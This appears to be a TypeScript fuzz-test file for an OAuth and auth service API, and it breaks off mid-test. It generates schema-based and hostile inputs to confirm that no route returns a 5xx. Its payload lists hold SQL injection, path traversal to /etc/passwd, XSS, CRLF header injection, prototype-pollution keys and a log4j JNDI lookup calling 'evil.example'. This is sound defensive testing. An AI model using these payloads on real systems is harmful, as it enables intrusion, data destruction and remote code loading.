import { randomUUID } from 'node:crypto'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import fc from 'fast-check'
import type { InjectOptions } from 'fastify'
import t from 'tap'
import { buildTestApp, json } from '../helpers/app.js'
import { createTestDatabase } from '../helpers/database.js'
import { authorizeUrl, formFields, pkcePair } from '../helpers/oauth.js'
import { InjectedPageBrowser } from '../helpers/oauth-inject.js'
import { PASSWORD, sidOf } from '../helpers/users.js'

/**
 * Schema-driven fuzzing (DESIGN §4: no 500 for bad input). Every operation
 * of the OpenAPI document at GET /docs/json (itself generated from the
 * routes' TypeBox schemas) gets generated inputs: bodies, query strings,
 * path parameters and headers drawn from its schema, each value either
 * schema-shaped (boundaries, patterns, enums, formats) or hostile (wrong
 * types, oversized and control-character strings, injection payloads,
 * prototype-pollution keys, deep nesting, broken JSON, form bodies), sent
 * with no, user, admin, API-key or garbage credentials. No answer may be a
 * 5xx, every error body is JSON, the process keeps serving, and the heap
 * after a forced GC stays flat within a generous bound.
 *
 * Values the database cannot take but lax formats let through (security
 * review, finding 6) are a class of their own: leap seconds, dates outside
 * 0001-9999 (down to JavaScript's -271821 and up to +275760), urn-prefixed,
 * braced and upper-case uuids, U+0000, integers past 2^63, and pagination
 * cursors built from them. The random inputs draw them for every field, and
 * a sweep sends each of them in every parameter and top-level body field of
 * every operation, the rest of the request valid, so the next route gets
 * them without anyone listing it.
 *
 * The hosted sign-in pages (DESIGN §3.15) answer HTML, errors included:
 * their errors may be pages instead of JSON, and every answer of theirs must
 * forbid framing. GET /oauth/authorize gets hostile query strings built on
 * the parameters it reads, around registered clients and with a signed-in
 * browser, and the pages' forms get hostile fields past their CSRF defence.
 *
 * FUZZ_RUNS sets the inputs per operation (default 150).
 */

const RUNS = Number(process.env.FUZZ_RUNS ?? 150)
const HEAP_GROWTH_LIMIT_MB = 64

setFlagsFromString('--expose-gc')
const gc = runInNewContext('gc') as () => void

const database = await createTestDatabase()
const main = await buildTestApp({}, { database })
const { app } = main
// The fuzzing registers webhook endpoints (DESIGN §3.18) whose URLs passed the SSRF guard, public addresses: none is
// ever sent to. The worker is stopped (the admin API's retry and replay kicks then do nothing); deliveries only queue.
await app.webhookDelivery.stop()
t.teardown(async () => {
  await main.close()
  await database.drop()
})

type Schema = Record<string, unknown> & {
  type?: string
  properties?: Record<string, Schema>
  required?: string[]
  anyOf?: Schema[]
  enum?: unknown[]
  pattern?: string
  format?: string
  maxLength?: number
  minLength?: number
  minimum?: number
  maximum?: number
  items?: Schema
}

interface Parameter {
  in: 'query' | 'path' | 'header'
  name: string
  schema: Schema
}

interface Operation {
  method: string
  path: string
  parameters: Parameter[]
  body?: Schema
  /** A hosted page (its answer is text/html): errors may be pages, and no answer may be framed. */
  page: boolean
}

type DocOperation = {
  parameters?: Parameter[]
  requestBody?: { content: Record<string, { schema: Schema }> }
  responses?: Record<string, { content?: Record<string, unknown> }>
}
const doc = json<{ paths: Record<string, Record<string, DocOperation>> }>(await app.inject({ method: 'GET', url: '/docs/json' }))
const operations: Operation[] = Object.entries(doc.paths).flatMap(([path, ops]) =>
  Object.entries(ops).map(([method, op]) => ({
    method: method.toUpperCase(),
    path,
    parameters: op.parameters ?? [],
    ...(op.requestBody?.content['application/json'] ? { body: op.requestBody.content['application/json'].schema } : {}),
    page: Boolean(op.responses?.['200']?.content?.['text/html']),
  }))
)

/**
 * The parameters /oauth/authorize reads (OAuth 2.1 §4.1.1, OIDC Core
 * §3.1.2.1, and the ones it refuses), in GET's query or POST's form. Its
 * schema is a record, which the document shows as parameters named after the
 * record's keywords (type, maxProperties...) and as a body without
 * properties; the fuzzer sends these instead.
 */
const AUTHORIZE_PARAMETERS = [
  'response_type', 'client_id', 'redirect_uri', 'scope', 'state', 'nonce', 'code_challenge', 'code_challenge_method', 'prompt', 'max_age',
  'login_hint', 'acr_values', 'response_mode', 'request', 'request_uri', 'registration', 'claims', 'id_token_hint', 'ui_locales',
]
const authorizeOperation = operations.find((op) => op.method === 'GET' && op.path === '/oauth/authorize')
if (authorizeOperation) {
  authorizeOperation.parameters = AUTHORIZE_PARAMETERS.map((name) => ({ in: 'query' as const, name, schema: { type: 'string', maxLength: 4096 } }))
}
const authorizeForm = operations.find((op) => op.method === 'POST' && op.path === '/oauth/authorize')
if (authorizeForm) {
  authorizeForm.body = { type: 'object', properties: Object.fromEntries(AUTHORIZE_PARAMETERS.map((name) => [name, { type: 'string', maxLength: 4096 }])) }
}

// ------------------------------------------------------------------ value generators

const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // eslint-disable-next-line no-template-curly-in-string -- the literal text of a log4j lookup, an injection payload
  '${jndi:ldap://evil.example/a}',
  '\u0000',
  'a\u0000b',
  '\r\nSet-Cookie: evil=1',
  '\u202Eevil',
  '\uFEFF',
  '\uD800',
  'ǅ\u0301\u0301\u0301',
  '🙂'.repeat(100),
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e309',
  '',
  ' ',
]

const SAMPLE_UUID = '0f8fad5b-d9cb-469f-a165-70867728950e'
const b64json = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')

/** Values Postgres or a JavaScript Date cannot hold, in the spellings lax validators accept (finding 6). */
const UNSTORABLE_DATES = [
  '2016-12-31T23:59:60Z',
  '1990-12-31T23:59:60.5+00:00',
  '2030-12-31T23:59:60Z',
  '-271821-04-20T00:00:00.000Z',
  '+275760-09-13T00:00:00.000Z',
  '275760-09-13T00:00:00.001Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00+00:01',
  '9999-12-31T23:59:59-00:01',
  '10000-01-01T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-01-01T00:00:00\u0000Z',
]
const ODD_UUIDS = [
  `urn:uuid:${SAMPLE_UUID}`,
  `URN:UUID:${SAMPLE_UUID.toUpperCase()}`,
  `{${SAMPLE_UUID}}`,
  SAMPLE_UUID.toUpperCase(),
  SAMPLE_UUID.replaceAll('-', ''),
  `${SAMPLE_UUID}\u0000`,
]
const NUL_TEXT = ['\u0000', 'a\u0000b', `${SAMPLE_UUID.slice(0, 8)}\u0000`, 'profile\u0000', 'x@example.test\u0000']
const HUGE_INTEGERS = ['9223372036854775808', '-9223372036854775809', '18446744073709551616', '99999999999999999999999', 2 ** 63, 2 ** 64, -(2 ** 63) - 4096, 1e21]
/** Cursors shaped like this API's own (base64url JSON) but built from the values above. */
const HOSTILE_CURSORS = [
  ...HUGE_INTEGERS.map((id) => b64json({ id: String(id) })),
  // eslint-disable-next-line @typescript-eslint/no-loss-of-precision -- a JSON number past 2^53, as an attacker would send it
  b64json({ id: 9223372036854775807 }),
  b64json({ id: '0' }),
  ...UNSTORABLE_DATES.map((at) => b64json({ at, id: SAMPLE_UUID })),
  ...ODD_UUIDS.map((id) => b64json({ at: '2026-01-01T00:00:00.000Z', id })),
  b64json({ at: '2026-01-01T00:00:00.000Z', id: SAMPLE_UUID, extra: true }),
  b64json({ at: '2026-01-01', id: SAMPLE_UUID }),
  Buffer.from('{"id":"1","__proto__":{"polluted":true}}').toString('base64url'),
  Buffer.from('{"id":"1"').toString('base64url'),
]
const UNSTORABLE: unknown[] = [...UNSTORABLE_DATES, ...ODD_UUIDS, ...NUL_TEXT, ...HUGE_INTEGERS, ...HOSTILE_CURSORS]

const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...UNSTORABLE),
  fc.constantFrom(null, true, false, 0, -1, -0, 1.5, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.integer({ min: 1, max: 5000 }).map((n) => 'A'.repeat(n)),
  fc.constant('x'.repeat(70_000))
)

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileLeaf },
  { weight: 1, arbitrary: fc.array(hostileLeaf, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'a', '$where'), hostileLeaf, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 2000 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) }
)

function schemaValue (schema: Schema): fc.Arbitrary<unknown> {
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(schemaValue))
  if (schema.enum) {
    return fc.oneof(
      fc.constantFrom(...schema.enum),
      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? v.toUpperCase() : v)),
      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? ` ${v}\u0000` : v))
    )
  }
  switch (schema.type) {
    case 'string': {
      const options: fc.Arbitrary<unknown>[] = [fc.string({ maxLength: 80 }), fc.constantFrom(...UNSTORABLE)]
      if (schema.format === 'uuid') {
        options.push(
          fc.uuid(),
          fc.uuid().map((id) => id.toUpperCase()),
          fc.uuid().map((id) => `urn:uuid:${id}`),
          fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', randomUUID().toUpperCase(), ...ODD_UUIDS)
        )
      }
      if (schema.format === 'date-time') {
        options.push(
          fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
          fc.constantFrom('2026-13-45T99:99:99Z', '0000-00-00T00:00:00Z', '2026-01-01T00:00:00+25:00', ...UNSTORABLE_DATES),
          // Any instant JavaScript holds, far outside what Postgres or RFC 3339's four-digit year can write.
          fc.integer({ min: -8_640_000_000_000_000, max: 8_640_000_000_000_000 }).map((ms) => new Date(ms).toISOString()),
          fc.tuple(fc.date({ noInvalidDate: true }), fc.constantFrom(':60', ':60.999')).map(([d, leap]) => d.toISOString().replace(/:\d\d\.\d+Z$/, `${leap}Z`))
        )
      }
      if (schema.pattern) options.push(fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length < 4000))
      if (schema.maxLength !== undefined) options.push(fc.constantFrom('a'.repeat(schema.maxLength), 'a'.repeat(schema.maxLength + 1)))
      if (schema.minLength !== undefined) options.push(fc.constant('a'.repeat(Math.max(0, schema.minLength - 1))))
      return fc.oneof(...options)
    }
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? -1e6
      const max = schema.maximum ?? 1e6
      return fc.oneof(fc.integer({ min: Math.ceil(min), max: Math.floor(max) }), fc.constantFrom(min - 1, max + 1, min, max, 0.5, ...HUGE_INTEGERS))
    }
    case 'boolean':
      return fc.oneof(fc.boolean(), fc.constantFrom('true', 1, 0))
    case 'array':
      return fc.array(schema.items ? schemaValue(schema.items) : hostileLeaf, { maxLength: 25 })
    case 'object': {
      const properties = schema.properties ?? {}
      const keys = Object.keys(properties)
      const record = fc.record(
        Object.fromEntries(keys.map((key) => [key, fuzzValue(properties[key]!)])),
        { requiredKeys: [] }
      )
      return fc
        .tuple(record, fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'extra', 'role', 'isAdmin', 'id'), hostileLeaf, { maxKeys: 2 }))
        .map(([known, extra]) => {
          const value: Record<string, unknown> = {}
          for (const [key, v] of Object.entries(extra)) Object.defineProperty(value, key, { value: v, enumerable: true, writable: true, configurable: true })
          for (const [key, v] of Object.entries(known)) Object.defineProperty(value, key, { value: v, enumerable: true, writable: true, configurable: true })
          return value
        })
    }
    default:
      return hostileValue
  }
}

/** Mostly schema-shaped values, often hostile ones. */
function fuzzValue (schema: Schema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 3, arbitrary: schemaValue(schema) }, { weight: 2, arbitrary: hostileValue })
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g

/** encodeURIComponent, except that a lone surrogate (which it refuses) goes out as its invalid UTF-8 bytes. */
function safeEncode (text: string): string {
  try {
    return encodeURIComponent(text)
  } catch {
    return encodeURIComponent(text.replace(LONE_SURROGATE, '\uFFFD')) + '%ED%A0%80'
  }
}

const asText = (value: unknown): string =>
  typeof value === 'string' ? value : value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value)

// ------------------------------------------------------------------ credentials

interface Credentials {
  user: string
  admin: string
  userRefresh: string
  profileKey: string
  introspectKey: string
  userId: string
  sessionId: string
  /** A webhook endpoint and one of its deliveries, so that the webhook routes' path parameters name real rows. */
  webhookId: string
  deliveryId: string
}

let accounts = 0
/**
 * A setup call that must succeed. On a loaded machine the service may shed a
 * request with 503 (e.g. its revocation list could not sync in time), and a
 * role set directly in the database counts after the next revocation poll;
 * setup retries those, and fails loudly on anything else.
 */
async function injectOk<T> (request: InjectOptions, expected: number): Promise<T> {
  for (let attempt = 0; ; attempt++) {
    const response = await app.inject(request)
    if (response.statusCode === expected) return json<T>(response)
    // A role set straight in the database reaches the revocation list by its next poll (≤ 1 s, DESIGN §3.5.7).
    const transient = response.statusCode === 503 || (response.statusCode === 401 && response.body.includes('role changed'))
    if (!transient || attempt >= 40) throw new Error(`setup ${request.method} ${request.url}: ${response.statusCode} ${response.body}`)
    await new Promise((resolve) => setTimeout(resolve, 250))
  }
}

async function freshCredentials (): Promise<Credentials> {
  const signup = (label: string) =>
    injectOk<{ user: { id: string; email: string }; access_token: string; refresh_token: string }>(
      { method: 'POST', url: '/auth/signup', payload: { email: `${label}-${++accounts}-${Date.now()}@fuzz.test`, password: PASSWORD } },
      201
    )
  const user = await signup('user')
  const admin = await signup('admin')
  // Verified addresses (API keys need one), and the admin promoted as admin:create does.
  await app.db.user.update({ where: { id: user.user.id }, data: { emailVerifiedAt: new Date() } })
  await app.db.user.update({ where: { id: admin.user.id }, data: { role: 'admin', emailVerifiedAt: new Date() } })
  const login = await injectOk<{ access_token: string }>(
    { method: 'POST', url: '/auth/token', payload: { grant_type: 'password', username: admin.user.email, password: PASSWORD } },
    200
  )
  const adminToken = login.access_token
  const key = async (token: string, scopes: string[]) =>
    (await injectOk<{ key: string }>({ method: 'POST', url: '/api-keys', headers: { authorization: `Bearer ${token}` }, payload: { name: 'fuzz', scopes } }, 201)).key
  return {
    user: user.access_token,
    admin: adminToken,
    userRefresh: user.refresh_token,
    profileKey: await key(user.access_token, ['profile']),
    // A platform service's key: introspection, and the security-event streams' endpoints past their authorization.
    introspectKey: await key(adminToken, ['introspect', 'events']),
    userId: user.user.id,
    sessionId: sidOf(user.access_token),
    ...(await knownWebhook(adminToken)),
  }
}

/** Where the known webhook endpoint delivers: a public address, accepted without a lookup (nothing is ever sent). */
const WEBHOOK_URL = 'https://93.184.215.14/fuzz'
let webhook: { webhookId: string; deliveryId: string } | undefined

/**
 * A webhook endpoint that exists, and a delivery of it: the fuzzing may
 * delete either, and then the next credentials get new ones. It subscribes
 * to webhook_replayed only, and its delivery is its replay's own event.
 */
async function knownWebhook (adminToken: string): Promise<{ webhookId: string; deliveryId: string }> {
  if (webhook && (await app.db.webhookDelivery.count({ where: { id: webhook.deliveryId, endpointId: webhook.webhookId } })) === 1) return webhook
  const headers = { authorization: `Bearer ${adminToken}` }
  const { id } = await injectOk<{ id: string }>({ method: 'POST', url: '/admin/webhooks', headers, payload: { url: WEBHOOK_URL, events: ['webhook_replayed'] } }, 201)
  const range = { since: new Date(Date.now() - 60_000).toISOString(), until: new Date(Date.now() + 60_000).toISOString() }
  await injectOk({ method: 'POST', url: `/admin/webhooks/${id}/replay`, headers, payload: range }, 202)
  const delivery = await app.db.webhookDelivery.findFirstOrThrow({ where: { endpointId: id } })
  webhook = { webhookId: id, deliveryId: delivery.id }
  return webhook
}

function authHeaders (choice: number, c: Credentials): Record<string, string> {
  switch (choice) {
    case 0:
      return {}
    case 1:
      return { authorization: `Bearer ${c.user}` }
    case 2:
      return { authorization: `Bearer ${c.admin}` }
    case 3:
      return { 'x-api-key': c.profileKey }
    case 4:
      return { authorization: `Bearer ${c.introspectKey}` }
    case 5:
      return { authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.' }
    case 6:
      return { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` }
    default:
      return { cookie: `__Secure-refresh_token=${c.userRefresh}`, origin: 'http://spa.test', 'x-requested-with': 'x' }
  }
}

// ------------------------------------------------------------------ requests

type Encoding = 'json' | 'form' | 'raw' | 'none'

interface FuzzInput {
  auth: number
  params: Record<string, unknown>
  query: Record<string, unknown>
  rawQuery: string
  headers: Record<string, unknown>
  body: unknown
  encoding: Encoding
  raw: string
}

const RAW_BODIES = ['{', '{"a":', '[1,2', 'null', '"str"', '\uFEFF{}', '{"__proto__":{"x":1}}', '{"a":1,"a":2}', 'a=b&c', '\u0000\u0001', '{}'.repeat(1000), '1e999']

function inputFor (op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
  const pathParams = op.parameters.filter((p) => p.in === 'path')
  const queryParams = op.parameters.filter((p) => p.in === 'query')
  const headerParams = op.parameters.filter((p) => p.in === 'header')
  const knownIds = fc.constantFrom(c.userId, c.sessionId, c.webhookId, c.deliveryId, randomUUID())
  const pathValue = fc.oneof(
    knownIds,
    fc.uuid(),
    // Another spelling of a real id: urn-prefixed, braced, upper case (finding 5: one id, one comparison).
    knownIds.chain((id) => fc.constantFrom(`urn:uuid:${id}`, `URN:UUID:${id.toUpperCase()}`, `{${id}}`, id.toUpperCase(), id.replaceAll('-', ''), `${id}%00`)),
    fc.constantFrom('..%2f..%2fadmin', '%00', 'x'.repeat(300), '%E0%A4%A', 'null', '-1', '%20', ...HUGE_INTEGERS.map(String)),
    fc.string({ maxLength: 20 })
  )
  return fc.record({
    auth: fc.integer({ min: 0, max: 7 }),
    params: fc.record(Object.fromEntries(pathParams.map((p) => [p.name, pathValue]))),
    query: fc.record(Object.fromEntries(queryParams.map((p) => [p.name, fuzzValue(p.schema)])), { requiredKeys: [] }),
    rawQuery: fc.constantFrom('', '', '', '&__proto__[x]=1', '&limit=1&limit=2', '&scope[]=global', '&%ZZ=1', '&constructor[prototype][x]=1'),
    headers: fc.record(Object.fromEntries(headerParams.map((p) => [p.name, fuzzValue(p.schema)])), { requiredKeys: [] }),
    body: op.body ? fuzzValue(op.body) : fc.oneof(fc.constant(undefined), hostileValue),
    encoding: fc.constantFrom<Encoding>('json', 'json', 'json', 'form', 'raw', 'none'),
    raw: fc.constantFrom(...RAW_BODIES),
  })
}

function buildRequest (op: Operation, input: FuzzInput, c: Credentials) {
  let url = op.path.replace(/\{(\w+)\}/g, (_m, name: string) => {
    const value = asText(input.params[name])
    return /%/.test(value) ? value : safeEncode(value)
  })
  const query = Object.entries(input.query)
    .map(([k, v]) => `${safeEncode(k)}=${safeEncode(asText(v))}`)
    .join('&')
  if (query || input.rawQuery) url += `?${query}${input.rawQuery}`
  const headers: Record<string, string> = { ...authHeaders(input.auth, c) }
  for (const [k, v] of Object.entries(input.headers)) headers[k] = asText(v).replace(/[^\x20-\x7e]/g, '?')
  let payload: string | undefined
  const canHaveBody = op.method !== 'GET'
  if (canHaveBody && input.encoding === 'json' && input.body !== undefined) {
    headers['content-type'] = 'application/json'
    payload = JSON.stringify(input.body)
  } else if (canHaveBody && input.encoding === 'form' && input.body !== undefined) {
    headers['content-type'] = 'application/x-www-form-urlencoded'
    const entries = typeof input.body === 'object' && input.body !== null ? Object.entries(input.body) : [['value', input.body]]
    payload = entries.map(([k, v]) => `${safeEncode(String(k))}=${safeEncode(asText(v))}`).join('&')
  } else if (canHaveBody && input.encoding === 'raw') {
    headers['content-type'] = 'application/json'
    payload = input.raw
  }
  return { method: op.method as 'GET', url, headers, ...(payload === undefined ? {} : { payload }) }
}

let inputs = 0
let shed = 0
const statuses = new Map<number, number>()

async function heapUsedMb (): Promise<number> {
  for (let i = 0; i < 3; i++) {
    gc()
    await new Promise((resolve) => setImmediate(resolve))
  }
  return process.memoryUsage().heapUsed / 1024 / 1024
}

/** Why a hosted page's answer could be framed, or null (RFC 9700 §4.16: every answer, redirects and errors included). */
function framingProblem (response: { headers: Record<string, unknown> }): string | null {
  const csp = String(response.headers['content-security-policy'] ?? '').split(';').map((directive) => directive.trim())
  if (!csp.includes("frame-ancestors 'none'")) return `no frame-ancestors 'none' (${csp.join('; ')})`
  if (response.headers['x-frame-options'] !== 'DENY') return `X-Frame-Options ${String(response.headers['x-frame-options'])}`
  return null
}

/**
 * Sends one input and judges its answer: no 5xx, errors in JSON (or, from a
 * hosted page, an HTML page), and a hosted page's answers never framed.
 * Throws what is wrong, for fast-check to shrink.
 */
async function judge (request: InjectOptions, page: boolean): Promise<void> {
  let response = await app.inject(request)
  if (response.statusCode === 503 && response.body.includes('revocation_state_unavailable')) {
    // Load shedding, not the input: the revocation list missed its sync window on a loaded
    // machine. Sync it and send the same input again; that answer is the one judged.
    shed++
    await app.revocations.sync()
    response = await app.inject(request)
  }
  inputs++
  statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1)
  if (response.statusCode >= 500) {
    throw new Error(`${response.statusCode} for ${JSON.stringify(request).slice(0, 600)}: ${response.body.slice(0, 300)}`)
  }
  const type = String(response.headers['content-type'] ?? '')
  if (page) {
    const framing = framingProblem(response)
    if (framing) throw new Error(`${response.statusCode} from a hosted page that can be framed: ${framing} for ${String(request.url).slice(0, 300)}`)
  }
  if (response.statusCode >= 400 && !(page && type.startsWith('text/html'))) {
    if (!type.startsWith('application/json')) throw new Error(`${response.statusCode} error without a JSON body (${type}) for ${request.url}`)
    JSON.parse(response.body)
  }
}

// One warm-up pass so that lazily built state (compiled schemas, caches, JIT) is not counted as growth.
const warmCredentials = await freshCredentials()
for (const op of operations) {
  for (const input of fc.sample(inputFor(op, warmCredentials), { numRuns: 5, seed: 1 })) await app.inject(buildRequest(op, input, warmCredentials))
}
// Every top-level await comes before the first subtest: tap ends the root test once its queue is idle.
const heapBefore = await heapUsedMb()

t.test('the OpenAPI document lists every route family', async (t) => {
  t.ok(operations.length >= 20, `${operations.length} operations`)
  for (const prefix of ['/auth/token', '/auth/signup', '/users/me', '/api-keys', '/admin/users', '/admin/clients', '/users/me/grants', '/oauth/authorize', '/oauth/sign-in', '/oauth/consent', '/oauth/logout', '/oauth/userinfo', '/admin/webhooks']) {
    t.ok(operations.some((op) => op.path.startsWith(prefix)), `${prefix} is fuzzed`)
  }
})

t.test('every webhook admin operation is fuzzed (DESIGN §3.18)', async (t) => {
  const webhookOperations = [
    'POST /admin/webhooks', 'GET /admin/webhooks', 'GET /admin/webhooks/{id}', 'PATCH /admin/webhooks/{id}', 'DELETE /admin/webhooks/{id}',
    'POST /admin/webhooks/{id}/secret', 'GET /admin/webhooks/{id}/deliveries', 'POST /admin/webhooks/{id}/deliveries/{deliveryId}/retry', 'POST /admin/webhooks/{id}/replay',
  ]
  const fuzzed = operations.map((op) => `${op.method} ${op.path}`)
  for (const operation of webhookOperations) t.ok(fuzzed.includes(operation), `${operation} is fuzzed`)
  t.same(fuzzed.filter((operation) => operation.includes('/admin/webhooks') && !webhookOperations.includes(operation)), [], 'and no other webhook operation is left unlisted here')
})

for (const op of operations) {
  t.test(`${op.method} ${op.path}: ${RUNS} generated inputs, no 5xx`, async (t) => {
    const credentials = await freshCredentials()
    await fc.assert(
      fc.asyncProperty(inputFor(op, credentials), (input) => judge(buildRequest(op, input, credentials), op.page)),
      { numRuns: RUNS }
    )
    t.pass(`${op.method} ${op.path}`)
  })
}

// ------------------------------------------------------------------ the hosted sign-in (DESIGN §3.15)

const RP_REDIRECT = 'https://rp.fuzz.test/cb'
const LOOPBACK_REDIRECT = 'http://127.0.0.1/cb'

/**
 * Two registered clients (a confidential web one, a public native one with a
 * loopback redirect URI) and a browser signed in at the hosted pages: its
 * cookies, and the fields of the consent form and of the logout confirmation
 * (a real interaction and csrf, so that a form's other fields get past the
 * CSRF defence).
 */
async function hostedPages (c: Credentials) {
  const register = (payload: Record<string, unknown>) =>
    injectOk<{ client_id: string }>({ method: 'POST', url: '/admin/clients', headers: { authorization: `Bearer ${c.admin}` }, payload }, 201)
  const rp = await register({ client_name: 'Fuzzed web client', redirect_uris: [RP_REDIRECT], post_logout_redirect_uris: [RP_REDIRECT], token_endpoint_auth_method: 'client_secret_basic' })
  const native = await register({ client_name: 'Fuzzed native client', redirect_uris: [LOOPBACK_REDIRECT], token_endpoint_auth_method: 'none', application_type: 'native' })
  const email = `pages-${++accounts}-${Date.now()}@fuzz.test`
  await injectOk({ method: 'POST', url: '/auth/signup', payload: { email, password: PASSWORD } }, 201)
  const browser = new InjectedPageBrowser(app)
  const start = authorizeUrl(app.config.issuer, { clientId: rp.client_id, redirectUri: RP_REDIRECT, scope: 'openid', codeChallenge: pkcePair().challenge })
  const signIn = formFields(await (await browser.get(start)).text(), '/oauth/sign-in')
  const consent = signIn && formFields(await (await browser.post('/oauth/sign-in', { ...signIn, email, password: PASSWORD })).text(), '/oauth/consent')
  const logout = formFields(await (await browser.get(`/oauth/logout?client_id=${rp.client_id}`)).text(), '/oauth/logout')
  if (!consent || !logout) throw new Error('setup: the hosted pages did not lead to the consent form and the logout confirmation')
  return { rp: rp.client_id, native: native.client_id, cookie: browser.cookieHeader(), consent, logout }
}

t.test(`GET and POST /oauth/authorize: ${RUNS} hostile requests around registered clients, signed in or not, no 5xx, never framed`, async (t) => {
  const pages = await hostedPages(await freshCredentials())
  const hostileText = hostileLeaf.map(asText)
  const text = (values: string[]) => fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...values) }, { weight: 1, arbitrary: hostileText })
  const values: Record<string, fc.Arbitrary<string>> = {
    response_type: text(['code', 'token', 'code id_token', 'id_token', 'none', '']),
    client_id: text([pages.rp, pages.native, 'web', 'mobile', 'authorization-server', 'no-such-client', '']),
    redirect_uri: fc.oneof(
      text([RP_REDIRECT, LOOPBACK_REDIRECT, `${RP_REDIRECT}/..`, 'http://[::1]:8080/cb', 'http://localhost:8080/cb', 'https://evil.example/cb', 'javascript:alert(1)', 'com.example.app:/cb', '']),
      fc.integer({ min: 0, max: 1_000_000 }).map((port) => `http://127.0.0.1:${port}/cb`)
    ),
    scope: text(['openid', 'openid email profile offline_access', 'profile', 'openid admin', '']),
    code_challenge: text([pkcePair().challenge, 'short', 'x'.repeat(43), 'x'.repeat(128), '']),
    code_challenge_method: text(['S256', 'plain', 's256', '']),
    prompt: text(['none', 'login', 'consent', 'select_account', 'none login', 'login consent', 'create', '']),
    max_age: text(['0', '1', '999999999', '9999999999', '-1', '1e3', '0x10', '']),
    acr_values: text(['urn:token-auth:acr:mfa', 'urn:token-auth:acr:mfa other', 'other', '']),
    response_mode: text(['query', 'fragment', 'form_post', '']),
  }
  const valueOf = (name: string) => values[name] ?? hostileText
  // A valid request of one of the clients, then up to four parameters changed (each to one value, or repeated).
  const input = fc.record({
    client: fc.constantFrom('rp', 'native'),
    // The native client's loopback URI on any port (RFC 8252 §7.3), and on ports that cannot exist.
    port: fc.oneof({ weight: 3, arbitrary: fc.integer({ min: 1, max: 65535 }) }, { weight: 1, arbitrary: fc.integer({ min: 65536, max: 99_999 }) }),
    changes: fc.subarray(AUTHORIZE_PARAMETERS, { maxLength: 4 }).chain((names) =>
      fc.record(Object.fromEntries(names.map((name) => [name, fc.oneof({ weight: 4, arbitrary: valueOf(name) }, { weight: 1, arbitrary: fc.array(valueOf(name), { minLength: 2, maxLength: 3 }) })])))
    ),
    signedIn: fc.boolean(),
    post: fc.boolean(),
    raw: fc.constantFrom('', '', '', '&%ZZ=1', '&client_id', '&=x', '&__proto__[x]=1'),
  })
  await fc.assert(
    fc.asyncProperty(input, async ({ client, port, changes, signedIn, post, raw }) => {
      const base: Record<string, string | string[]> = {
        response_type: 'code',
        client_id: client === 'rp' ? pages.rp : pages.native,
        redirect_uri: client === 'rp' ? RP_REDIRECT : `http://127.0.0.1:${port}/cb`,
        scope: 'openid',
        state: 'st',
        code_challenge: pkcePair().challenge,
        code_challenge_method: 'S256',
        ...changes,
      }
      const query = new URLSearchParams()
      for (const [name, value] of Object.entries(base)) for (const one of [value].flat()) query.append(name, one)
      const cookie = signedIn ? { cookie: pages.cookie } : {}
      await judge(
        post
          ? { method: 'POST', url: '/oauth/authorize', headers: { ...cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: `${query}${raw}` }
          : { method: 'GET', url: `/oauth/authorize?${query}${raw}`, headers: cookie },
        true
      )
    }),
    { numRuns: RUNS }
  )
  t.pass('/oauth/authorize')
})

/** Values a hosted form's fields mean something with (beside random and hostile ones). */
const FORM_VALUES: Record<string, string[]> = {
  email: ['someone@fuzz.test', 'a@b', ' ', 'x'.repeat(320), 'Someone@Fuzz.Test '],
  password: [PASSWORD, 'wrong password', ''],
  credential: [
    '{}', '[]', 'null', '"x"', '{"__proto__":{"polluted":true}}', `{"response":{"clientDataJSON":"${'A'.repeat(5000)}"}}`,
    '{"id":"AAAA","rawId":"AAAA","type":"public-key","response":{"clientDataJSON":"e30","authenticatorData":"AAAA","signature":"AAAA","userHandle":"AAAA"}}',
  ],
  code: ['123456', '000000', '12345', '1234567', 'abcd-efgh', ' 123456 ', ''],
  mfa_token: [`mfa_${'A'.repeat(43)}`, 'mfa_', ''],
  decision: ['allow', 'deny', 'ALLOW', ''],
}

/** The hosted pages' forms: every page operation whose form carries the CSRF field. */
const pageForms = operations.filter((op) => op.method === 'POST' && op.page && op.body?.properties?.csrf)

t.test('the hosted forms are in the document', async (t) => {
  for (const path of ['/oauth/sign-in', '/oauth/sign-in/passkey', '/oauth/sign-in/second-factor', '/oauth/consent', '/oauth/logout']) {
